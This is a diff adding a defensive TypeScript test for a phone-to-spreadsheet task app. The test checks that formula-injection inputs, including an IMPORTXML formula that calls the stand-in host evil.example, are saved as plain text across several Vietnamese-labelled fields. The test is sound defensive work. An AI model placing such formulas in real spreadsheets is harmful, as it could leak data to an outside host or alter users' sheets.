@@ -3,7 +3,7 @@ import type { Project } from 'stand-in';
 import type { Failure } from '../../../src/answers';
 import { allDoors, callDoor, phoneDoors } from '../../support/doors';
 import { copyOf } from '../../support/faults';
-import { fill, officeWith, overdueTask, serial, shown, tab } from '../../support/office';
+import { columnOf, fill, officeWith, overdueTask, serial, shown, tab } from '../../support/office';
 import { linkFor, openLink, switchOn } from '../../support/phone';
 
 const binh = 'Trần Văn Bình';
@@ -158,6 +158,38 @@ describe('From the phone’s page', () => {
       before = text;
     }
   });
+
+  it.each(['=IMPORTXML("https://evil.example","/a")', '+84 912', '-1', '@a', "'=1+1", '50%', 'TRUE', '3/9'])(
+    'hostile text stays text where it is sent with a day and a number beside it: %s',
+    async (text) => {
+      const project = await office();
+      const send = (changes: object[]) =>
+        project.runFromWeb('saveFromPhone', [keys.good, { code: 'NV-1', changes }]);
+      const since = (seen: string, value: string) => ({ field: 'waitingSince', seen, value });
+      expect(send([since('', '2023-08-01')])).toMatchObject({ saved: true });
+      const texts = {
+        waitingFor: 'Chờ ai',
+        pressedOn: 'Lần đôn đốc',
+        result: 'Kết quả, sản phẩm',
+        difficulty: 'Khó khăn, vướng mắc',
+        proposal: 'Kiến nghị',
+        proof: 'Minh chứng',
+        occurrences: 'Các lần đã làm',
+      };
+      const changes = [
+        { field: 'state', seen: 'Đang thực hiện', value: 'waiting' },
+        { field: 'progress', seen: '', value: '60' },
+        since('2023-08-01', '2023-08-02'),
+        ...Object.keys(texts).map((field) => ({ field, seen: '', value: text })),
+      ];
+      expect(send(changes)).toMatchObject({ saved: true });
+      const sheet = tab(project, 'Nhiệm vụ');
+      for (const header of Object.values(texts)) {
+        const { value, formula } = sheet.cells.get(2)!.get(columnOf(sheet, header))!;
+        expect([header, value, formula]).toEqual([header, text, undefined]);
+      }
+    },
+  );
 
   it.each(['state', 'progress', 'completedOn', 'waitingSince'])(
     'hostile text is refused where a choice, a number or a day belongs: %s',
